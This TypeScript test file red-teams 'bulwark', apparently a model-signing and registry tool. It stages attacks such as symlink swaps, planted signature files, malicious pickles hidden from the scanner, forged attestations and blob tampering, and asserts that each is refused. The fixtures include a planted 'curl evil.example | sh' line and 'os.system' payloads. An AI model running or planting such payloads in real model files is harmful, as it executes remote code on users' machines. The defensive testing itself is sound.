// Red-team tests of `bulwark verify` and the registry's "no signature, no deploy" gate, end to end
// through the CLI on SQLite. Each test is an attack and asserts the secure outcome; a failing test
// here is a finding.
import { createHash, randomBytes } from 'node:crypto';
import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { diskBlobStore } from '../src/cli/fs-blob-files.js';
import { DATASET_ADMISSION_PREDICATE } from '../src/core/predicate-types.js';
import { readEncryptedHeader } from '../src/registry/encryption/read-encrypted-header.js';
import { maliciousPickle, writeKeyPair, writeModel } from './support/model-fixtures.js';
import { runCli, type CliRun } from './support/run-cli.js';

const DATASET = `sha256:${'cd'.repeat(32)}`;
const REDTEAM = 'https://bulwark.dev/attestation/redteam/v1';

function sha256Hex(bytes: Uint8Array | string): string {
  return createHash('sha256').update(bytes).digest('hex');
}

const POLICY = `
release:
  policies:
    - aliases: [staging]
      signature: { keys: [release.pub] }
      scan: { failOn: high }
    - aliases: [gated]
      attesters: [ci.pub]
      datasets:
        requireProvenance: true
        requireAdmission: true
        provenanceKeys: [ci.pub]
        admissionKeys: [gov.pub]
      attestations:
        - type: ${REDTEAM}
          keys: [redteam.pub]
`;

describe('red team: bulwark verify and the registry release gate', () => {
  let dir: string;
  const cli = (args: string[], env: Record<string, string> = {}): Promise<CliRun> => runCli(args, dir, env);

  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'bw-redteam-'));
    for (const name of ['release', 'intruder', 'ci', 'gov', 'redteam']) writeKeyPair(dir, name);
    writeFileSync(join(dir, 'bulwark.yaml'), POLICY);
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  async function ok(args: string[], env: Record<string, string> = {}): Promise<CliRun> {
    const run = await cli(args, env);
    expect(run.stderr, args.join(' ')).toBe('');
    expect(run.code, args.join(' ')).toBe(0);
    return run;
  }

  async function push(
    model: string,
    version: string,
    extra: string[] = [],
    env: Record<string, string> = {},
  ) {
    return ok(['registry', 'push', model, '--name', 'acme/m', '--version', version, ...extra], env);
  }

  async function promote(version: string, alias = 'staging', env: Record<string, string> = {}) {
    return cli(['registry', 'promote', `acme/m@${version}`, '--alias', alias], env);
  }

  async function storedFiles(version: string, env: Record<string, string> = {}) {
    const show = await ok(['registry', 'show', `acme/m@${version}`, '--format', 'json'], env);
    return JSON.parse(show.stdout) as {
      digest: string;
      files: { path: string; digest: string; encrypted: boolean }[];
    };
  }

  function blobPath(digest: string, encrypted = false): string {
    const hex = digest.slice('sha256:'.length);
    return join(
      dir,
      '.bulwark',
      'blobs',
      'sha256',
      hex.slice(0, 2),
      `${hex.slice(2)}${encrypted ? '.bwenc' : ''}`,
    );
  }

  describe('bulwark verify', () => {
    it('refuses a signed file swapped for a symlink to identical bytes after signing', async () => {
      const model = writeModel(dir);
      await ok(['sign', model, '--key', 'release.key']);
      const outside = join(dir, 'outside.bin');
      writeFileSync(outside, readFileSync(join(model, 'weights.bin')));
      unlinkSync(join(model, 'weights.bin'));
      symlinkSync(outside, join(model, 'weights.bin'));
      const run = await cli(['verify', model, '--key', 'release.pub']);
      expect(run.code).toBe(1);
      expect(run.stdout).toMatch(/weights\.bin: 'weights\.bin' is a symlink/);
    });

    it('refuses a model.sig planted in a subfolder after signing (only the bundle itself is left out)', async () => {
      const model = writeModel(dir);
      await ok(['sign', model, '--key', 'release.key']);
      mkdirSync(join(model, 'sub'));
      writeFileSync(join(model, 'sub', 'model.sig'), maliciousPickle());
      const run = await cli(['verify', model, '--key', 'release.pub']);
      expect(run.code).toBe(1);
      expect(run.stdout).toContain("'sub/model.sig' is not covered by the signature");
    });

    it('re-applies ignore paths recorded in the signed statement, as OMS requires (spec conformance)', async () => {
      // The signer chose to leave extras/ out and signed that choice; a verifier of the folder honours it.
      const model = writeModel(dir);
      await ok(['sign', model, '--key', 'release.key', '--ignore-paths', 'extras']);
      mkdirSync(join(model, 'extras'));
      writeFileSync(join(model, 'extras', 'modeling_evil.py'), 'import os\nos.system("id")\n');
      expect((await cli(['verify', model, '--key', 'release.pub'])).code).toBe(0);
      // An ignore path given only to the verifier is the verifier's choice; one the attacker adds is not.
      writeFileSync(join(model, 'evil.py'), 'import os\n');
      expect((await cli(['verify', model, '--key', 'release.pub'])).code).toBe(1);
    });

    it('a key that also signs attestations cannot be made to sign a model statement through `attest create`', async () => {
      // An attestation service holding the release key signs statements with caller-chosen predicates.
      // DSSE over in-toto is the same envelope OMS uses, so an OMS predicate must not be accepted there.
      const evil = join(dir, 'evil');
      mkdirSync(evil);
      writeFileSync(join(evil, 'modeling.py'), 'import os\nos.system("id")\n');
      const digest = sha256Hex(readFileSync(join(evil, 'modeling.py')));
      const root = sha256Hex(Buffer.from(digest, 'hex'));
      writeFileSync(
        join(dir, 'oms.json'),
        JSON.stringify({
          serialization: { method: 'files', hash_type: 'sha256', allow_symlinks: false },
          resources: [{ name: 'modeling.py', algorithm: 'sha256', digest }],
        }),
      );
      const created = await cli([
        'attest',
        'create',
        '--subject',
        `sha256:${root}`,
        '--predicate-type',
        'https://model_signing/signature/v1.0',
        '--predicate',
        'oms.json',
        '--key',
        'release.key',
        '--output',
        'envelope.json',
      ]);
      let forged: CliRun | undefined;
      if (created.code === 0) {
        const envelope = JSON.parse(readFileSync(join(dir, 'envelope.json'), 'utf8')) as Record<
          string,
          unknown
        >;
        const bundle = {
          mediaType: 'application/vnd.dev.sigstore.bundle.v0.3+json',
          verificationMaterial: { publicKey: { hint: 'any' }, tlogEntries: [] },
          dsseEnvelope: envelope,
        };
        writeFileSync(join(dir, 'forged.sig'), JSON.stringify(bundle));
        forged = await cli(['verify', evil, '--signature', 'forged.sig', '--key', 'release.pub']);
      }
      // Secure: either the attestation signer refuses the OMS predicate, or the result is no model signature.
      expect(forged?.stdout ?? 'attest create refused').not.toMatch(/^verified/);
      expect(forged?.code ?? 1).toBe(1);
    });
  });

  describe('registry: the signature must cover every stored byte', () => {
    it('refuses to promote a stored file that the signed ignore paths leave uncovered', async () => {
      const model = writeModel(dir);
      await ok(['sign', model, '--key', 'release.key', '--ignore-paths', 'extras']);
      mkdirSync(join(model, 'extras'));
      writeFileSync(join(model, 'extras', 'modeling_evil.py'), 'import os\nos.system("id")\n');
      await push(model, '1');
      expect((await storedFiles('1')).files.map((f) => f.path)).toContain('extras/modeling_evil.py');
      const refused = await promote('1');
      expect(refused.stdout).toMatch(/UNMET {2}signature: .*extras\/modeling_evil\.py/);
      expect(refused.code).toBe(1);
    });

    it('refuses a bundle moved to sub/model.sig so that a planted root model.sig is stored unsigned', async () => {
      const model = writeModel(dir);
      await ok(['sign', model, '--key', 'release.key']);
      mkdirSync(join(model, 'sub'));
      renameSync(join(model, 'model.sig'), join(model, 'sub', 'model.sig'));
      writeFileSync(join(model, 'model.sig'), 'import os\nos.system("curl evil.example | sh")\n');
      await push(model, '1', ['--signature', join(model, 'sub', 'model.sig')]);
      expect((await storedFiles('1')).files.map((f) => f.path)).toContain('model.sig');
      const refused = await promote('1');
      expect(refused.stdout).toMatch(/UNMET {2}signature: .*model\.sig/);
      expect(refused.code).toBe(1);
    });

    it("refuses a version whose stored bundle signs another version's bytes (same name)", async () => {
      const v1 = writeModel(dir, 'v1');
      await ok(['sign', v1, '--key', 'release.key']);
      await push(v1, '1');
      const v2 = writeModel(dir, 'v2');
      writeFileSync(join(v2, 'model.sig'), readFileSync(join(v1, 'model.sig')));
      await push(v2, '2');
      expect((await promote('1')).code).toBe(0);
      const refused = await promote('2');
      expect(refused.code).toBe(1);
      expect(refused.stdout).toMatch(/UNMET {2}signature: .*does not match its signed digest/);
    });

    it('a promote racing a re-push of other bytes under the same version keeps the signed bytes', async () => {
      const v1 = writeModel(dir, 'v1');
      await ok(['sign', v1, '--key', 'release.key']);
      await push(v1, '1');
      const before = (await storedFiles('1')).digest;
      const other = writeModel(dir, 'other');
      await ok(['sign', other, '--key', 'release.key']);
      const [promoted, repushed] = await Promise.all([
        promote('1'),
        cli(['registry', 'push', other, '--name', 'acme/m', '--version', '1']),
      ]);
      expect(repushed.code).toBe(2);
      expect(repushed.stderr).toMatch(/versions are immutable/);
      expect(promoted.code).toBe(0);
      expect((await storedFiles('1')).digest).toBe(before);
      expect((await cli(['deploy', 'check', 'acme/m@staging'])).code).toBe(0);
    });
  });

  describe('registry: the scan must have seen every stored byte', () => {
    async function signPushPromote(model: string): Promise<CliRun> {
      await ok(['sign', model, '--key', 'release.key']);
      await push(model, '1');
      return promote('1');
    }

    it('control: a visible malicious pickle is refused by the scan requirement', async () => {
      const model = writeModel(dir);
      writeFileSync(join(model, 'extra.pkl'), maliciousPickle());
      const refused = await signPushPromote(model);
      expect(refused.stdout).toMatch(/UNMET {2}scan: .*critical/);
      expect(refused.code).toBe(1);
    });

    it('refuses a pickle hidden from the scan by a .bulwarkignore shipped inside the model', async () => {
      const model = writeModel(dir);
      writeFileSync(join(model, 'extra.pkl'), maliciousPickle());
      writeFileSync(join(model, '.bulwarkignore'), 'extra.pkl\n');
      const refused = await signPushPromote(model);
      expect((await storedFiles('1')).files.map((f) => f.path)).toContain('extra.pkl');
      expect(refused.stdout).toMatch(/UNMET {2}scan: /);
      expect(refused.code).toBe(1);
    });

    it('refuses a pickle hidden from the scan by a top-level .gitignore (left out of the signature, still read by the scan)', async () => {
      const model = writeModel(dir);
      writeFileSync(join(model, 'extra.pkl'), maliciousPickle());
      writeFileSync(join(model, '.gitignore'), '*.pkl\n');
      const refused = await signPushPromote(model);
      expect(refused.stdout).toMatch(/UNMET {2}scan: /);
      expect(refused.code).toBe(1);
    });

    it('refuses pickles hidden in nested .git/ and .bulwark/ folders the scan always skips', async () => {
      const model = writeModel(dir);
      mkdirSync(join(model, 'tokenizer', '.git'), { recursive: true });
      writeFileSync(join(model, 'tokenizer', '.git', 'vocab.pkl'), maliciousPickle());
      mkdirSync(join(model, '.bulwark'));
      writeFileSync(join(model, '.bulwark', 'hook.pkl'), maliciousPickle());
      const refused = await signPushPromote(model);
      const paths = (await storedFiles('1')).files.map((f) => f.path);
      expect(paths).toEqual(expect.arrayContaining(['tokenizer/.git/vocab.pkl', '.bulwark/hook.pkl']));
      expect(refused.stdout).toMatch(/UNMET {2}scan: /);
      expect(refused.code).toBe(1);
    });

    it('refuses a pickle nested below the scan depth limit (the depth finding is only low)', async () => {
      const model = writeModel(dir);
      const deep = join(model, ...Array.from({ length: 34 }, () => 'd'));
      mkdirSync(deep, { recursive: true });
      writeFileSync(join(deep, 'payload.pkl'), maliciousPickle());
      const refused = await signPushPromote(model);
      expect(refused.stdout).toMatch(/UNMET {2}scan: /);
      expect(refused.code).toBe(1);
    });
  });

  describe('registry: evidence signed for another role, and admission verdict look-alikes', () => {
    async function pushPlain(version = '1'): Promise<string> {
      await push(writeModel(dir, `m${version}`), version);
      return (await storedFiles(version)).digest;
    }

    async function provenance(key: string, version = '1'): Promise<void> {
      await ok([
        'attest',
        'training',
        '--model',
        `acme/m@${version}`,
        '--dataset',
        `reviews=${DATASET}`,
        '--code-commit',
        'b'.repeat(40),
        '--key',
        key,
      ]);
    }

    async function attest(subject: string, type: string, predicate: unknown, key: string): Promise<void> {
      writeFileSync(join(dir, 'predicate.json'), JSON.stringify(predicate));
      await ok([
        'attest',
        'create',
        '--subject',
        subject,
        '--predicate-type',
        type,
        '--predicate',
        'predicate.json',
        '--key',
        key,
      ]);
      // Admissions are ordered by time; keep each one strictly later than the previous.
      await sleep(15);
    }

    it('refuses provenance, admission and red-team evidence signed by keys named for other requirements', async () => {
      const digest = await pushPlain();
      await provenance('gov.key'); // the admission key signs provenance
      // Each statement differs from the legitimate one below (`by`), so the store keeps both.
      await attest(DATASET, DATASET_ADMISSION_PREDICATE, { verdict: 'admitted', by: 'ci' }, 'ci.key');
      await attest(digest, REDTEAM, { attackSuccessRate: 0, by: 'gov' }, 'gov.key');
      const refused = await promote('1', 'gated');
      expect(refused.code).toBe(1);
      expect(refused.stdout).toMatch(/UNMET {2}provenance: .*none is signed by a trusted key/);
      expect(refused.stdout).toMatch(/UNMET {2}dataset-admission: /);
      expect(refused.stdout).toMatch(
        /UNMET {2}attestation:https:\/\/bulwark\.dev\/attestation\/redteam\/v1: /,
      );

      await provenance('ci.key');
      const stillRefused = await promote('1', 'gated');
      expect(stillRefused.stdout).toMatch(/met {4}provenance/);
      expect(stillRefused.stdout).toMatch(
        /UNMET {2}dataset-admission: .*no admission signed by a trusted key/,
      );

      await attest(DATASET, DATASET_ADMISSION_PREDICATE, { verdict: 'admitted' }, 'gov.key');
      await attest(digest, REDTEAM, { attackSuccessRate: 0 }, 'redteam.key');
      const allowed = await promote('1', 'gated');
      expect(allowed.stdout).not.toContain('UNMET');
      expect(allowed.code).toBe(0);
    });

    it('a trusted rejection is not lost because another key stored the same statement first', async () => {
      const digest = await pushPlain();
      await provenance('ci.key');
      await attest(digest, REDTEAM, { attackSuccessRate: 0 }, 'redteam.key');
      await attest(DATASET, DATASET_ADMISSION_PREDICATE, { verdict: 'admitted' }, 'gov.key');
      expect((await promote('1', 'gated')).code).toBe(0);
      // The rejection governance is about to sign is predictable: squat it with an untrusted key.
      await attest(DATASET, DATASET_ADMISSION_PREDICATE, { verdict: 'rejected' }, 'intruder.key');
      await attest(DATASET, DATASET_ADMISSION_PREDICATE, { verdict: 'rejected' }, 'gov.key');
      const refused = await promote('1', 'gated');
      expect(refused.stdout).toMatch(/UNMET {2}dataset-admission: .*was rejected by admission/);
      expect(refused.code).toBe(1);
    });

    it.each([
      ['a trailing space', { verdict: 'admitted ' }],
      ['a list', { verdict: ['admitted'] }],
      ['another case', { verdict: 'Admitted' }],
      ['an object', { verdict: { value: 'admitted' } }],
      ['another field', { status: 'admitted' }],
      ['a zero-width space', { verdict: 'admitted\u200b' }],
    ])('refuses an admission whose verdict is %s', async (_label, predicate) => {
      const digest = await pushPlain();
      await provenance('ci.key');
      await attest(digest, REDTEAM, { attackSuccessRate: 0 }, 'redteam.key');
      await attest(DATASET, DATASET_ADMISSION_PREDICATE, { verdict: 'admitted' }, 'gov.key');
      expect((await promote('1', 'gated')).code).toBe(0);
      await attest(DATASET, DATASET_ADMISSION_PREDICATE, predicate, 'gov.key');
      const refused = await promote('1', 'gated');
      expect(refused.stdout).toMatch(/UNMET {2}dataset-admission: .*was rejected by admission/);
      expect(refused.code).toBe(1);
    });
  });

  describe('registry: blob store tampering', () => {
    it('refuses a deploy after two plain blobs are swapped on disk', async () => {
      const model = writeModel(dir);
      await ok(['sign', model, '--key', 'release.key']);
      await push(model, '1');
      expect((await promote('1')).code).toBe(0);
      const [a, b] = (await storedFiles('1')).files.map((f) => blobPath(f.digest));
      if (a === undefined || b === undefined) throw new Error('expected two blobs');
      chmodSync(a, 0o644);
      chmodSync(b, 0o644);
      const bytesA = readFileSync(a);
      writeFileSync(a, readFileSync(b));
      writeFileSync(b, bytesA);
      const deploy = await cli(['deploy', 'check', 'acme/m@staging']);
      expect(deploy.stdout).toMatch(/UNMET {2}signature: /);
      expect(deploy.code).toBe(1);
    });

    it('refuses a deploy after encrypted blobs are swapped, or one gets the header of another', async () => {
      const env = { MODEL_KEY: randomBytes(32).toString('base64') };
      writeFileSync(join(dir, 'bulwark.yaml'), `${POLICY}\nregistry:\n  encryption: { keyEnv: MODEL_KEY }\n`);
      const model = writeModel(dir);
      await ok(['sign', model, '--key', 'release.key'], env);
      await push(model, '1', [], env);
      expect((await promote('1', 'staging', env)).code).toBe(0);
      const [a, b] = (await storedFiles('1', env)).files.map((f) => blobPath(f.digest, true));
      if (a === undefined || b === undefined) throw new Error('expected two blobs');
      chmodSync(a, 0o644);
      chmodSync(b, 0o644);
      const bytesA = readFileSync(a);
      const bytesB = readFileSync(b);
      writeFileSync(a, bytesB);
      writeFileSync(b, bytesA);
      const swapped = await cli(['deploy', 'check', 'acme/m@staging'], env);
      expect(swapped.stdout).toMatch(/UNMET {2}signature: /);
      expect(swapped.code).toBe(1);

      const source = (bytes: Buffer) => ({
        size: bytes.length,
        read: (offset: number, length: number) =>
          Promise.resolve(new Uint8Array(bytes.subarray(offset, offset + length))),
      });
      const headerA = (await readEncryptedHeader(source(bytesA))).header.headerLength;
      const headerB = (await readEncryptedHeader(source(bytesB))).header.headerLength;
      writeFileSync(a, bytesA);
      writeFileSync(b, Buffer.concat([bytesA.subarray(0, headerA), bytesB.subarray(headerB)]));
      const grafted = await cli(['deploy', 'check', 'acme/m@staging'], env);
      expect(grafted.stdout).toMatch(/UNMET {2}signature: .*cannot be read|UNMET {2}signature: /);
      expect(grafted.code).toBe(1);
    });

    it('refuses to store a file whose bytes changed between hashing and storing (what push relies on)', async () => {
      const file = join(dir, 'weights.bin');
      writeFileSync(file, randomBytes(4096));
      const hashed = `sha256:${sha256Hex(readFileSync(file))}`;
      writeFileSync(file, randomBytes(4096)); // replaced after hashing, before storing
      const blobs = diskBlobStore({ root: join(dir, 'blobs') });
      await expect(blobs.put(file, { expectedDigest: hashed })).rejects.toMatchObject({
        code: 'SIGNATURE_INVALID',
      });
      expect(await blobs.has(hashed)).toBe(false);
    });
  });

  it('a registry row edited in the database does not move a release: the deploy check re-evaluates', async () => {
    // Direct database writes are outside the threat model; the gate still re-checks what an alias names.
    const signed = writeModel(dir, 'signed');
    await ok(['sign', signed, '--key', 'release.key']);
    await push(signed, '1');
    await push(writeModel(dir, 'unsigned'), '2');
    expect((await promote('1')).code).toBe(0);
    const db = new Database(join(dir, '.bulwark', 'bulwark.db'));
    try {
      db.prepare("UPDATE model_aliases SET version = '2' WHERE name = 'acme/m' AND alias = 'staging'").run();
    } finally {
      db.close();
    }
    const deploy = await cli(['deploy', 'check', 'acme/m@staging']);
    expect(deploy.stdout).toMatch(/REFUSED {2}deploy acme\/m@2/);
    expect(deploy.stdout).toMatch(/UNMET {2}signature: .*unsigned/);
    expect(deploy.code).toBe(1);
  });
});
